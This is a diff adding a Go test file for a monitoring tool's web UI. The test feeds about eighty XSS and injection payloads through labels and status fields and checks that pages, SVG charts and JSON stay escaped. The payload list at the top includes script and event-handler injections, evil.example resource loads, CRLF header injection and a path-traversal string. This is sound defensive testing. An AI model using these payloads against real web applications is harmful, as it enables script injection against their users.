@@ -1,0 +1,273 @@
+package ui
+
+import (
+	"encoding/json"
+	"encoding/xml"
+	"errors"
+	"html"
+	"io"
+	"net/http"
+	"net/url"
+	"strings"
+	"testing"
+
+	"github.com/wrackline/wrackline/alerting"
+	"github.com/wrackline/wrackline/baseline/model"
+	"github.com/wrackline/wrackline/baseline/series"
+	"github.com/wrackline/wrackline/baseline/signal"
+)
+
+// payloads are what somebody may send as a label value or name to run a script in an operator's browser.
+var payloads = []string{
+	`<script>alert(1)</script>`, `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`, `"><script>alert(1)</script>`, `'><script>alert(1)</script>`, `</title><script>alert(1)</script>`, `</textarea><script>alert(1)</script>`,
+	`</script><script>alert(1)</script>`, `</style><script>alert(1)</script>`, `<!--<script>-->alert(1)<!--</script>-->`, `--><script>alert(1)</script>`, `]]><script>alert(1)</script>`, `<![CDATA[<script>alert(1)</script>]]>`,
+	`<img src=x onerror=alert(1)>`, `"><img src=x onerror=alert(1)>`, `<img src="x" onerror="alert(1)"/>`, `<img/src=x/onerror=alert(1)>`, `<IMG SRC=javascript:alert(1)>`, `<svg onload=alert(1)>`, `<svg/onload=alert(1)>`,
+	`"><svg onload=alert(1)>`, `</svg><script>alert(1)</script>`, `</text><script>alert(1)</script>`, `</title></svg><img src=x onerror=alert(1)>`, `<svg><animate onbegin=alert(1) attributeName=x dur=1s>`, `<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>`,
+	`<foreignObject><body onload=alert(1)>`, `<math><mtext><script>alert(1)</script>`, `<iframe src=javascript:alert(1)>`, `<iframe srcdoc="<script>alert(1)</script>">`, `<object data=javascript:alert(1)>`, `<embed src=javascript:alert(1)>`,
+	`<link rel=stylesheet href=//evil.example/x.css>`, `<style>*{background:url(//evil.example)}</style>`, `<base href=//evil.example/>`, `<meta http-equiv=refresh content="0;url=//evil.example">`, `<form action=//evil.example><button>`, `<input autofocus onfocus=alert(1)>`,
+	`<details open ontoggle=alert(1)>`, `<video><source onerror=alert(1)>`, `<body onpageshow=alert(1)>`, `<marquee onstart=alert(1)>`, `javascript:alert(1)`, `data:text/html,<script>alert(1)</script>`, ` onmouseover=alert(1) `, `" onmouseover="alert(1)`, `' onmouseover='alert(1)`,
+	"` onmouseover=`alert(1)", `" autofocus onfocus="alert(1)" x="`, `"style="position:fixed;inset:0`, `x" class="hero bad`, `{{.}}`, `{{template "content" .}}`, `${alert(1)}`, `<%= 1 %>`, `&lt;script&gt;alert(1)&lt;/script&gt;`, `&#60;script&#62;`, `%3Cscript%3Ealert(1)%3C/script%3E`,
+	`\u003cscript\u003e`, "\u2028alert(1)\u2029", "a\u202e\u2066b", "\x00<script>", "\xff\xfe<script>", "a\nb\r\nSet-Cookie: x=1", `../../../etc/passwd`, `?q=1#x`, `//evil.example/`, `\\evil.example\`, `<a href="//evil.example">click</a>`, `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
+	`<x onclick=alert(1)>`, `<p/onclick=alert(1)>`, "<img\tsrc=x\tonerror=alert(1)>", "<img\nsrc=x\nonerror=alert(1)>", `<<script>alert(1)//<</script>`, `<scr<script>ipt>alert(1)</scr</script>ipt>`, strings.Repeat("<b>", 400), strings.Repeat("A", 5000),
+}
+
+type tag struct {
+	name  string
+	attrs map[string]string
+}
+
+// tags reads the tags of a page as a browser would, as far as our own pages go. Text inside script is skipped, and must
+// hold no <.
+func tags(t *testing.T, page string) []tag {
+	t.Helper()
+	var out []tag
+	s := page
+	for {
+		i := strings.IndexByte(s, '<')
+		if i < 0 {
+			return out
+		}
+		s = s[i+1:]
+		switch {
+		case strings.HasPrefix(s, "!doctype html>"), strings.HasPrefix(s, "/"):
+			end := strings.IndexByte(s, '>')
+			if end < 0 || strings.ContainsAny(s[:end], "<\"'=") {
+				t.Fatalf("odd markup: %.80q", s)
+			}
+			s = s[end+1:]
+			continue
+		case s == "" || s[0] < 'a' || s[0] > 'z':
+			t.Fatalf("a < that begins no tag of ours: %.80q", s)
+		}
+		end := strings.IndexAny(s, " \n\t/>")
+		x := tag{name: s[:end], attrs: map[string]string{}}
+		s = s[end:]
+		for {
+			s = strings.TrimLeft(s, " \n\t/")
+			if strings.HasPrefix(s, ">") {
+				s = s[1:]
+				break
+			}
+			end := strings.IndexAny(s, " \n\t/>=")
+			if end <= 0 {
+				t.Fatalf("odd attribute: %.80q", s)
+			}
+			name := s[:end]
+			if s = s[end:]; !strings.HasPrefix(s, "=") {
+				x.attrs[name] = ""
+				continue
+			}
+			if !strings.HasPrefix(s, `="`) {
+				t.Fatalf("attribute %s has no quotes: %.80q", name, s)
+			}
+			s = s[2:]
+			end = strings.IndexByte(s, '"')
+			x.attrs[name] = html.UnescapeString(s[:end])
+			if strings.ContainsAny(s[:end], "<>") {
+				t.Fatalf("attribute %s holds markup: %.80q", name, s[:end])
+			}
+			s = s[end+1:]
+		}
+		out = append(out, x)
+		if x.name == "script" {
+			end := strings.Index(s, "</script>")
+			if end < 0 || strings.Contains(s[:end], "<") {
+				t.Fatalf("a script holds a <: %.80q", s)
+			}
+			if x.attrs["type"] == "application/json" && !json.Valid([]byte(s[:end])) {
+				t.Fatalf("data is no JSON: %.80q", s[:end])
+			}
+			s = s[end:]
+		}
+	}
+}
+
+// shape is what a page may be made of: names of tags, attributes and classes.
+func shape(t *testing.T, page string, into map[string]bool) {
+	for _, x := range tags(t, page) {
+		into["<"+x.name+">"] = true
+		for name, value := range x.attrs {
+			into[x.name+" "+name] = true
+			if name == "class" {
+				for c := range strings.FieldsSeq(value) {
+					into["."+c] = true
+				}
+			}
+			if name == "href" || name == "src" || name == "action" {
+				if u, err := url.Parse(value); err != nil || u.Scheme != "" || u.Host != "" || !strings.HasPrefix(value, "/") && !strings.HasPrefix(value, "#") {
+					into["link out: "+value] = true
+				}
+			}
+		}
+	}
+}
+
+// hostile returns a fake in which everything that comes from outside is p.
+func hostile(p string) *fake {
+	f := newFake()
+	g := *f
+	f = &g
+	f.view = newFake().view
+	bad := func(l series.Labels) series.Labels {
+		var out series.Labels
+		for _, x := range l {
+			if x.Name != "cluster" {
+				x.Value = p
+			}
+			out = append(out, x)
+		}
+		return append(out, series.Label{Name: p, Value: p}, series.Label{Name: "zz", Value: p})
+	}
+	ids := map[string]string{}
+	for i := range f.view.Signals {
+		v := &f.view.Signals[i]
+		s := *v.Signal
+		r := *s.Rule
+		r.Params.Mode = model.Trend
+		s.Rule, s.Entity = &r, bad(s.Entity)
+		s.ID = signal.MakeID(r.Name, append(append(series.Labels(nil), s.Entity...), series.Label{Name: "n", Value: v.Signal.ID}))
+		ids[v.Signal.ID] = s.ID
+		f.curve[s.ID] = f.curve[v.Signal.ID]
+		v.Signal = &s
+		v.Top = []signal.Member{{Name: p, Value: 1}}
+	}
+	f.sort()
+	f.snap = newFake().snap
+	for _, list := range [][]*alerting.Incident{f.snap.Open, f.snap.Closed} {
+		for _, inc := range list {
+			inc.Scope, inc.Cluster = bad(inc.Scope), p
+			for k := range inc.Members {
+				m := &inc.Members[k]
+				m.Entity, m.SignalID, m.Top = bad(m.Entity), ids[m.SignalID], []signal.Member{{Name: p, Value: 2}}
+				r := *m.Rule
+				r.Summary = "{{ $labels.zz }} is {{ $value }}"
+				r.Next = []string{"kubectl get {{ $labels.zz }}", "kubectl logs {{ $top }}"}
+				m.Rule = &r
+			}
+			inc.Title = inc.Members[inc.Lead].Sentence(true)
+			inc.Timeline = append(inc.Timeline, alerting.Event{T: fakeNow, Kind: p, Signal: p}, alerting.Event{T: fakeNow, Kind: "severity", Signal: p}, alerting.Event{T: fakeNow, Kind: "notified", Signal: p}, alerting.Event{T: fakeNow, Kind: "joined", Signal: "a~" + p})
+		}
+	}
+	for k := range f.snap.Loose {
+		f.snap.Loose[k].Entity, f.snap.Loose[k].SignalID = bad(f.snap.Loose[k].Entity), ids[f.snap.Loose[k].SignalID]
+	}
+	st := newFake().status
+	st.Config, st.Version = p, p
+	st.Senders[0].Name, st.Senders[0].Cluster, st.Senders[0].Replica = p, p, p
+	st.Clusters = append(st.Clusters, Cluster{Name: p, Series: 1})
+	for k := range st.Rules {
+		st.Rules[k].Missing = append(st.Rules[k].Missing, p)
+		st.Rules[k].Cluster = p
+	}
+	st.Receivers[1].LastError, st.Receivers[1].Disabled, st.Receivers[1].Name, st.Receivers[1].Host = p, p, p, p
+	st.DeadLetters[0].Title, st.DeadLetters[0].Why, st.DeadLetters[0].Receiver = p, p, p
+	st.Problems = append(st.Problems, Problem{Severity: "error", Text: p, Fix: p})
+	st.Demo.Next, st.Demo.Scenario = p, p
+	st.Demo.Inbox = append(st.Demo.Inbox, InboxMessage{AtMs: fakeNow, Receiver: p, Reason: p, Severity: p, Title: p, Incident: p, Where: p, Value: p, First: p, Meaning: p, Next: []string{p}, Notes: []string{p}, Lines: []string{p}})
+	f.status = st
+	return f
+}
+
+func TestHostileLabelsAreShownAsText(t *testing.T) {
+	if len(payloads) < 50 {
+		t.Fatalf("only %d payloads", len(payloads))
+	}
+	paths := func(f *fake) []string {
+		return []string{"/", "/signals", "/signals?q=" + url.QueryEscape("zz="+f.status.Config), "/signals/" + f.view.Signals[5].Signal.ID, "/incidents", dnsPath, "/receivers", "/status"}
+	}
+	known := map[string]bool{}
+	plain := newFake()
+	plain.status.Problems = append(plain.status.Problems, Problem{Severity: "error", Text: "x"})
+	plain.status.Receivers[1].Disabled = "x"
+	plain.status.Clusters = append(plain.status.Clusters, Cluster{Name: "y"})
+	plain.status.Demo.Inbox = append(plain.status.Demo.Inbox, InboxMessage{Severity: "info", Incident: "x", Notes: []string{"x"}})
+	for i := range plain.view.Signals { // so that the page of any signal shows all its parts
+		plain.view.Signals[i].Top = []signal.Member{{Name: "x", Value: 1}}
+	}
+	plain.snap.Open[1].Timeline = append(plain.snap.Open[1].Timeline, alerting.Event{T: fakeNow, Kind: "odd"})
+	ph := New(plain, Options{Demo: true})
+	for _, p := range append(paths(plain), servfailPath, "/signals?state=abnormal&q=a&pack=dns&cluster=prod-eu&namespace=shop", "/signals?pack=dns", "/signals?cluster=y", "/incidents/inc_5d1nq8y2jkta", "/incidents/inc_0c8ft3w6r5bn") {
+		shape(t, body(t, ph, p, http.StatusOK), known)
+	}
+	for _, payload := range payloads {
+		f := hostile(payload)
+		h := New(f, Options{Demo: true, ExternalURL: ""})
+		for _, p := range paths(f) {
+			page := body(t, h, p, http.StatusOK)
+			got := map[string]bool{}
+			shape(t, page, got)
+			for x := range got {
+				if !known[x] {
+					t.Errorf("payload %.60q: %s gains %s", payload, p, x)
+				}
+			}
+			if strings.ContainsAny(payload, "<>") && strings.Contains(page, payload) {
+				t.Errorf("payload %.60q stands in %s as it is", payload, p)
+			}
+		}
+		id := f.view.Signals[5].Signal.ID
+		checkSVG(t, payload, body(t, h, "/chart/"+id+".svg", http.StatusOK))
+		for _, p := range []string{"/api/v1/signals", "/api/v1/signals/" + id, "/api/v1/incidents", "/api/v1/incidents/inc_7h2k9qv4m1xz", "/api/v1/packs", "/api/v1/status", "/api/v1/status/config"} {
+			text := body(t, h, p, http.StatusOK)
+			if !json.Valid([]byte(text)) || strings.ContainsAny(text, "<>&\u2028") {
+				t.Errorf("payload %.60q: %s is not safe JSON", payload, p)
+			}
+		}
+		// What was sent is given back unchanged to programs, as far as JSON can hold it.
+		var one struct {
+			Data struct{ Labels map[string]string }
+		}
+		if err := json.Unmarshal([]byte(body(t, h, "/api/v1/signals/"+id, http.StatusOK)), &one); err != nil || one.Data.Labels["zz"] != strings.ToValidUTF8(payload, "\ufffd") && one.Data.Labels["zz"] != payload {
+			if !strings.Contains(payload, "\xff") {
+				t.Errorf("payload %.60q came back as %.60q (%v)", payload, one.Data.Labels["zz"], err)
+			}
+		}
+	}
+}
+
+// checkSVG reads a picture as XML and allows only the elements and attributes that charts have.
+func checkSVG(t *testing.T, payload, text string) {
+	t.Helper()
+	elements := map[string]bool{"svg": true, "title": true, "rect": true, "path": true, "text": true, "g": true, "circle": true}
+	d := xml.NewDecoder(strings.NewReader(text))
+	for {
+		tok, err := d.Token()
+		if errors.Is(err, io.EOF) {
+			return
+		}
+		if err != nil {
+			t.Errorf("payload %.60q: chart is no XML: %v", payload, err)
+			return
+		}
+		if e, ok := tok.(xml.StartElement); ok {
+			if !elements[e.Name.Local] {
+				t.Errorf("payload %.60q: chart has <%s>", payload, e.Name.Local)
+			}
+			for _, a := range e.Attr {
+				if strings.HasPrefix(strings.ToLower(a.Name.Local), "on") || a.Name.Local == "href" || a.Name.Local == "style" {
+					t.Errorf("payload %.60q: chart has %s=%q", payload, a.Name.Local, a.Value)
+				}
+			}
+		}
+	}
+}
